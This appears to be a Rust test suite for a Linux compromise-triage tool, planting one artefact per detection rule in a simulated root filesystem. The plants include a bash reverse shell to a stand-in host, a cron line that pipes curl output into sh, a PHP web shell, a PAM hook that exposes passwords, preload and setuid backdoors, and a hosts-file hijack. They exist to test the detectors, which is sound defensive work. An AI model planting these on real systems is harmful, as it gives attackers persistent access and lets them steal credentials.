//! Every rule of the catalogue must fire on what it is for, and none above "info" on a clean root.
//!
//! Only we vouch for the small root in memory; the clean Debian root in `debian.rs` is the independent path.

mod support;

use evidence::fs::FileKind;
use std::collections::BTreeSet;
use support::{MemFs, clean_root};
use triage::{Activation, Catalogue, Digests, Options, Report, Severity};

fn run(fs: &MemFs) -> Report {
    triage::run(fs, &Options::default())
}

type Plant = fn(&mut MemFs) -> &mut MemFs;

/// A rule, what is planted, and the path the finding must name.
const PLANTS: &[(&str, &str, Plant)] = &[
    ("GBX-0101", "/etc/passwd", |fs| fs.append("/etc/passwd", "toor:x:0:0::/root:/bin/bash\n")),
    ("GBX-0102", "/etc/passwd", |fs| {
        fs.append("/etc/passwd", "eve:$6$salt$hashhashhash:1001:1001::/:/bin/sh\n")
    }),
    ("GBX-0103", "/etc/shadow", |fs| fs.append("/etc/shadow", "eve::19000::::::\n")),
    ("GBX-0104", "/etc/shadow", |fs| {
        fs.append("/etc/shadow", "games:$6$salt$hashhashhash:19000::::::\n")
    }),
    ("GBX-0105", "/etc/passwd", |fs| {
        fs.append("/etc/passwd", "news:x:9:9::/var/spool/news:/bin/bash\n")
    }),
    ("GBX-0106", "/etc/passwd", |fs| {
        fs.append("/etc/passwd", "news:x:9:9::/var/spool/news:/usr/sbin/nologin \n")
    }),
    ("GBX-0107", "/etc/passwd", |fs| fs.append("/etc/passwd", "eve:x:00:0::/:/bin/sh\n")),
    ("GBX-0108", "/etc/group", |fs| fs.append("/etc/group", "docker:x:99:anna\n")),
    ("GBX-0110", "/etc/shadow", |fs| {
        fs.file("/etc/shadow-", "root:*:19000::::::\n");
        fs.append("/etc/shadow", "eve:$6$salt$hashhashhash:19000::::::\n")
    }),
    ("GBX-1204", "/boot/efi/EFI/debian/shimx64.efi", |fs| {
        fs.file("/usr/lib/shim/shimx64.efi.signed", "MZ 1");
        fs.file("/boot/efi/EFI/debian/shimx64.efi", "MZ 2")
    }),
    ("GBX-0121", "/etc/sudoers", |fs| fs.append("/etc/sudoers", "anna ALL=(ALL) NOPASSWD: ALL\n")),
    ("GBX-0122", "/etc/sudoers.d/eve", |fs| fs.file("/etc/sudoers.d/eve", "eve ALL=(ALL) ALL\n")),
    ("GBX-0201", "/root/.ssh/authorized_keys", |fs| {
        fs.file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA eve@192.0.2.10\n")
    }),
    ("GBX-0202", "/usr/games/.ssh/authorized_keys", |fs| {
        fs.file("/usr/games/.ssh/authorized_keys", "ssh-rsa AAAA x\n")
    }),
    ("GBX-0203", "/home/anna/.ssh/authorized_keys", |fs| {
        fs.file("/home/anna/.ssh/authorized_keys", "ssh-rsa AAAA x\n")
    }),
    ("GBX-0204", "/home/anna/.ssh/authorized_keys", |fs| {
        fs.file("/home/anna/.ssh/authorized_keys", "command=\"/x y\" ssh-rsa AAAA x\n")
    }),
    ("GBX-0211", "/etc/ssh/sshd_config", |fs| {
        fs.append("/etc/ssh/sshd_config", "PermitRootLogin yes\n")
    }),
    ("GBX-0212", "/etc/ssh/sshd_config.d/x.conf", |fs| {
        fs.file("/etc/ssh/sshd_config.d/x.conf", "AuthorizedKeysCommand /opt/k\n")
    }),
    ("GBX-0213", "/root/.ssh/rc", |fs| fs.file("/root/.ssh/rc", "/opt/x\n")),
    ("GBX-0301", "/var/spool/cron/crontabs/anna", |fs| {
        fs.file("/var/spool/cron/crontabs/anna", "@reboot /home/anna/x\n")
    }),
    ("GBX-0302", "/etc/cron.d/sys", |fs| fs.file("/etc/cron.d/sys", "* * * * * root /opt/x\n")),
    ("GBX-0303", "/var/spool/cron/atjobs/a0000101b2c3d4", |fs| {
        fs.file("/var/spool/cron/atjobs/a0000101b2c3d4", "#!/bin/sh\n# atrun uid=0 gid=0\n/opt/x\n")
    }),
    ("GBX-0401", "/etc/systemd/system/dbus-org.service", |fs| {
        fs.file("/etc/systemd/system/dbus-org.service", "[Service]\nExecStart=/opt/x\n")
    }),
    ("GBX-0404", "/etc/systemd/system-generators/makecon", |fs| {
        fs.program("/etc/systemd/system-generators/makecon", "#!/bin/sh\n/opt/x\n")
    }),
    ("GBX-0501", "/etc/ld.so.preload", |fs| fs.file("/etc/ld.so.preload", "/lib/libproc.so\n")),
    ("GBX-0502", "/etc/ld.so.conf.d/00.conf", |fs| {
        fs.file("/etc/ld.so.conf.d/00.conf", "/opt/lib\n")
    }),
    ("GBX-0503", "/etc/environment", |fs| fs.file("/etc/environment", "LD_PRELOAD=/opt/x.so\n")),
    ("GBX-0601", "/opt/.x", |fs| fs.put("/opt/.x", FileKind::File, 0o4755, b"\x7fELF x")),
    ("GBX-0602", "/usr/bin/cat", |fs| {
        fs.put("/usr/bin/cat", FileKind::File, 0o4755, b"\x7fELF cat")
    }),
    ("GBX-0603", "/usr/bin/cat", |fs| {
        fs.xattr(
            "/usr/bin/cat",
            "security.capability",
            &[1, 0, 0, 2, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
        )
    }),
    ("GBX-0604", "/tmp/bd64", |fs| fs.file("/tmp/bd64", "\x7fELF tiny")),
    ("GBX-0605", "/etc/open", |fs| fs.put("/etc/open", FileKind::File, 0o666, b"x")),
    ("GBX-0606", "/var/disk", |fs| fs.put("/var/disk", FileKind::BlockDevice, 0o666, b"")),
    ("GBX-0607", "/usr/bin/cat", |fs| fs.seal("/usr/bin/cat")),
    ("GBX-0701", "/usr/bin/cat", |fs| {
        fs.program("/usr/bin/cat", "#!/bin/sh\n/usr/bin/cat.original\n")
    }),
    ("GBX-0702", "/usr/share/doc/bash/README", |fs| fs.append("/usr/share/doc/bash/README", "x")),
    ("GBX-0703", "/etc/pam.d/login", |fs| {
        fs.append("/etc/pam.d/login", "session required pam_limits.so\n")
    }),
    ("GBX-0704", "/usr/bin/cat.original", |fs| fs.program("/usr/bin/cat.original", "\x7fELF cat")),
    ("GBX-0705", "/usr/lib/x86_64-linux-gnu/security/pam_x.so", |fs| {
        fs.file("/usr/lib/x86_64-linux-gnu/security/pam_x.so", "\x7fELF\0x")
    }),
    ("GBX-0706", "/usr/lib/modules/6.1.0/extra/rk.ko", |fs| {
        fs.file("/usr/lib/modules/6.1.0/extra/rk.ko", "\x7fELF rk")
    }),
    ("GBX-0707", "/usr/local/bin/cat", |fs| fs.program("/usr/local/bin/cat", "#!/bin/sh\n")),
    ("GBX-0801", "/home/anna/.bashrc", |fs| {
        fs.append("/home/anna/.bashrc", "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1 &\n")
    }),
    ("GBX-0802", "/etc/profile.d/x.sh", |fs| fs.file("/etc/profile.d/x.sh", "/opt/x\n")),
    ("GBX-0803", "/etc/rc.local", |fs| fs.program("/etc/rc.local", "#!/bin/sh\n/opt/x\nexit 0\n")),
    ("GBX-0901", "/etc/pam.d/login", |fs| {
        fs.append("/etc/pam.d/login", "auth optional pam_exec.so expose_authtok /opt/spy\n")
    }),
    ("GBX-0903", "/etc/modprobe.d/x.conf", |fs| {
        fs.file("/etc/modprobe.d/x.conf", "install dccp /opt/x\n")
    }),
    ("GBX-0904", "/etc/modules-load.d/x.conf", |fs| {
        fs.file("/etc/modules-load.d/x.conf", "diamorphine\n")
    }),
    ("GBX-0905", "/etc/udev/rules.d/75-x.rules", |fs| {
        fs.file(
            "/etc/udev/rules.d/75-x.rules",
            "ACTION==\"add\", ENV{MAJOR}==\"1\", RUN+=\"/opt/x run:+\"\n",
        )
    }),
    ("GBX-0906", "/etc/apt/apt.conf.d/99x", |fs| {
        fs.file("/etc/apt/apt.conf.d/99x", "APT::Update::Pre-Invoke {\"/opt/x\"};\n")
    }),
    ("GBX-0907", "/etc/apt/sources.list.d/x.list", |fs| {
        fs.file("/etc/apt/sources.list.d/x.list", "deb [trusted=yes] http://192.0.2.10/ x main\n")
    }),
    ("GBX-0908", "/etc/hosts", |fs| fs.append("/etc/hosts", "192.0.2.10 security.debian.org\n")),
    ("GBX-0909", "/etc/hosts.allow", |fs| fs.file("/etc/hosts.allow", "sshd: ALL: spawn /opt/x\n")),
    ("GBX-0910", "/etc/sysctl.d/x.conf", |fs| {
        fs.file("/etc/sysctl.d/x.conf", "kernel.core_pattern=|/opt/x %p\n")
    }),
    ("GBX-1001", "/var/www/html/s.php", |fs| {
        fs.file("/var/www/html/s.php", "<?php\n@system( $_GET['c'] );\n")
    }),
    ("GBX-1002", "/var/... ", |fs| fs.file("/var/... ", "x")),
    ("GBX-1003", "/dev/.udev.tmp", |fs| fs.file("/dev/.udev.tmp", "x")),
    ("GBX-1004", "/usr/lib/python3/dist-packages/x.pth", |fs| {
        fs.file("/usr/lib/python3/dist-packages/x.pth", "import os;os.system('/opt/x')\n")
    }),
    ("GBX-1106", "/etc/update-motd.d/00-x", |fs| {
        fs.program("/etc/update-motd.d/00-x", "#!/bin/sh\n/opt/x\n")
    }),
];

#[test]
fn clean_root_is_clean() {
    let report = run(&clean_root());
    let bad: Vec<_> =
        report.findings.iter().map(|f| (&f.rule, f.path.to_string(), &f.excerpt)).collect();
    assert_eq!(bad, []);
    assert_eq!(report.problems, []);
    assert!(
        report.coverage.digests_compared >= 12,
        "else the comparison tests nothing: {:?}",
        report.coverage
    );
    assert_eq!(report.system.unwrap().name, "Test GNU/Linux");
}

#[test]
fn every_rule_fires_on_its_plant() {
    for (rule, path, plant) in PLANTS {
        let mut fs = clean_root();
        plant(&mut fs);
        let report = run(&fs);
        let found = report
            .findings
            .iter()
            .any(|finding| finding.rule == *rule && finding.path.0 == path.as_bytes());
        let all: Vec<_> = report.findings.iter().map(|f| (&f.rule, f.path.to_string())).collect();
        assert!(found, "{rule} {path}: {all:?}");
    }
}

#[test]
fn every_rule_has_a_plant() {
    let catalogue = Catalogue::embedded();
    // Those of Windows: tests/windows.rs.
    let linux = catalogue.rules().filter(|rule| !rule.is_of_windows());
    let all: BTreeSet<&str> = linux.map(|rule| rule.id.as_str()).collect();
    let mut planted: BTreeSet<&str> = PLANTS.iter().map(|(rule, ..)| *rule).collect();
    // Needs mounts: below.
    planted.insert("GBX-1009");
    // Needs rules of the examiner: tests/yara.rs.
    planted.insert("GBX-1501");
    // Lie outside file systems: tests/boot_code.rs.
    planted.extend(["GBX-1208", "GBX-1209"]);
    // The benchmark plants on a real root; what it expects it finds.
    let benchmark =
        include_str!("techniques.toml").lines().filter(|line| line.starts_with("expect"));
    planted
        .extend(benchmark.flat_map(|line| line.split('"').filter(|word| word.starts_with("GBX-"))));
    assert_eq!(all.difference(&planted).collect::<Vec<_>>(), Vec::<&&str>::new());
}

#[test]
fn all_plants_together_are_sorted_and_serialisable() {
    let mut fs = clean_root();
    for (_, _, plant) in PLANTS {
        plant(&mut fs);
    }
    let report = run(&fs);
    assert!(report.findings.is_sorted_by_key(|f| (f.severity, f.rule.clone(), f.path.clone())));
    let again = run(&fs);
    assert_eq!(serde_json::to_string(&report).unwrap(), serde_json::to_string(&again).unwrap());
    assert!(
        report
            .findings
            .iter()
            .all(|f| !f.title.is_empty() && !f.why.is_empty() && !f.verify_by_hand.is_empty())
    );
    assert!(report.findings.iter().all(|f| f.excerpt.chars().all(|letter| !letter.is_control())));
}

#[test]
fn a_hash_never_reaches_the_report() {
    let mut fs = clean_root();
    fs.append("/etc/shadow", "games:$6$salt$verysecrethash:19000::::::\n");
    fs.append("/etc/passwd", "eve:$6$salt$verysecrethash:1001:1001::/:/bin/sh\n");
    assert!(!serde_json::to_string(&run(&fs)).unwrap().contains("verysecrethash"));
}

#[test]
fn what_an_entry_runs_decides_how_bad_it_is() {
    let severity = |content: &str| {
        let mut fs = clean_root();
        fs.file("/etc/cron.d/job", content);
        run(&fs).findings.iter().filter(|f| f.rule == "GBX-0302").map(|f| f.severity).min().unwrap()
    };
    assert_eq!(severity("* * * * * root /opt/backup\n"), Severity::Medium);
    assert_eq!(severity("* * * * * root /tmp/.x\n"), Severity::High);
    assert_eq!(severity("* * * * * root curl http://192.0.2.10/a | sh\n"), Severity::Critical);
}

#[test]
fn an_inactive_rc_local_is_told_as_such() {
    let mut fs = clean_root();
    fs.file("/etc/rc.local", "#!/bin/sh\n/opt/x\n");
    let report = run(&fs);
    assert_eq!(
        (report.findings[0].activation, report.findings[0].severity),
        (Activation::Inactive, Severity::Low)
    );
}

#[test]
fn a_set_id_copy_of_a_packaged_program_is_critical() {
    let mut fs = clean_root();
    fs.put("/var/tmp/.b", FileKind::File, 0o4755, b"\x7fELF bash");
    let report = run(&fs);
    assert!(
        report.findings.iter().any(|f| f.rule == "GBX-0601" && f.severity == Severity::Critical)
    );
}

#[test]
fn hostile_names_are_shown_escaped_and_kept_raw() {
    let mut fs = clean_root();
    fs.put_raw(b"/tmp/\x1b[2J\xff", FileKind::File, 0o755, b"\x7fELF");
    let report = run(&fs);
    let finding = report.findings.iter().find(|f| f.rule == "GBX-0604").unwrap();
    assert_eq!(finding.path.to_string(), "/tmp/\\x1b[2J\\xff");
    assert_eq!(finding.path_hex.as_deref(), Some("2f746d702f1b5b324aff"));
}

#[test]
fn without_a_package_database_it_says_so_and_goes_on() {
    let mut fs = MemFs::default();
    fs.file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nx:x:0:0::/:/bin/sh\n")
        .file("/usr/bin/unowned", "\x7fELF");
    let report = run(&fs);
    assert_eq!(report.coverage.package_database, "none");
    assert_eq!(report.problems.len(), 1);
    assert_eq!(report.findings.iter().map(|f| f.rule.as_str()).collect::<Vec<_>>(), ["GBX-0101"]);
}

#[test]
fn volumes_not_examined_are_named() {
    let mut fs = clean_root();
    fs.append("/etc/fstab", "UUID=2 /var/log ext4 defaults 0 2\ntmpfs /tmp tmpfs defaults 0 0\n");
    let report = run(&fs);
    assert_eq!(report.coverage.not_examined, ["/var/log"]);
    assert!(report.problems.iter().any(|problem| problem.text.contains("was not examined")));
}

#[test]
fn digests_can_be_left_out_and_that_is_said() {
    let mut fs = clean_root();
    fs.program("/usr/bin/cat", "changed");
    let report = triage::run(&fs, &Options { digests: Digests::Skip, ..Options::default() });
    assert!(report.findings.is_empty());
    assert!(report.coverage.rules_skipped[0].contains("not asked for"));
}

/// Every text file of the root is replaced by noise in turn: triage must end without a panic.
#[test]
fn noise_in_any_file_never_panics() {
    let mut state = 0x5eed_0005_u64;
    let mut noise = |length: usize| -> Vec<u8> {
        let letters = b":/ \n\t#=*@\\%,.$x0123\xff\x00[]\"";
        let pick = (0..length).map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            letters[state as usize % letters.len()]
        });
        pick.collect()
    };
    let paths = [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/group",
        "/etc/sudoers",
        "/etc/crontab",
        "/var/lib/dpkg/status",
        "/var/lib/dpkg/diversions",
        "/var/lib/dpkg/info/base.list",
        "/var/lib/dpkg/info/base.md5sums",
        "/etc/ssh/sshd_config",
        "/etc/ld.so.preload",
        "/etc/systemd/system/x.service",
        "/root/.ssh/authorized_keys",
        "/etc/fstab",
        "/etc/udev/rules.d/x.rules",
    ];
    for round in 0..200_usize {
        let mut fs = clean_root();
        for path in paths.iter().skip(round % 3).step_by(3) {
            fs.put(path, FileKind::File, 0o755, &noise(round * 7));
        }
        let _ = run(&fs);
    }
}

/// Only we vouch: the tree is put together by the reader's own mounts.
#[test]
fn what_a_mount_hides_is_told() {
    use evidence::fs::MountTree;
    use evidence::system::Hidden;
    use std::sync::Arc;
    let mut base = clean_root();
    base.put("/srv/data/.x/sh", FileKind::File, 0o4755, b"\x7fELF sh").file("/srv/data/note", "x");
    base.put("/opt/empty", FileKind::Directory, 0o755, b"");
    let base: Arc<dyn evidence::FileSystem> = Arc::new(base);
    let mut tree = MountTree::new(Arc::clone(&base), base.root());
    let mut hidden = Vec::new();
    for (parent, name) in [("/srv", "data"), ("/opt", "empty")] {
        let parent_node = evidence::fs::tree::resolve(
            &tree,
            parent.as_bytes(),
            evidence::fs::tree::LastLink::Keep,
        )
        .unwrap();
        let other: Arc<dyn evidence::FileSystem> = Arc::new(MemFs::default());
        let top = other.root();
        tree.mount(parent_node, name.as_bytes(), other, top).unwrap();
        let (fs, node) = tree.below(parent_node, name.as_bytes()).unwrap();
        hidden.push(Hidden { path: format!("{parent}/{name}").as_str().into(), fs, node });
    }
    let report = triage::run(&tree, &Options { hidden, ..Options::default() });
    let found: Vec<_> = report.findings.iter().filter(|f| f.rule == "GBX-1009").collect();
    assert_eq!(found.len(), 1);
    assert_eq!(
        (found[0].path.to_string().as_str(), found[0].severity),
        ("/srv/data", Severity::High)
    );
    assert!(
        found[0].excerpt.contains("/.x/sh") && found[0].detail.starts_with("2 files, 1 of them")
    );
}
